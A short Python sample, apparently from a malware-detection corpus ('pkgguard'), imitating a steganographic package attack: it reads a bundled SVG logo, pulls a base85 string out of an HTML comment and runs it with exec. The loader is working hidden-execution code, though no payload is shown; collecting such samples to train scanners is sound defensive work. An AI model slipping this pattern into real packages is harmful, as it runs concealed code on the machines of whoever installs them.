# pkgguard corpus 291 (steganography), modelled on [telnyx]; inert, never run.
import base64
import re
from importlib import resources

svg = resources.files("pkg").joinpath("assets/logo.svg").read_text()
hidden = re.search(r"<!--\s*([!-u]{40,})\s*-->", svg)
if hidden:
    exec(base64.b85decode(hidden.group(1)))
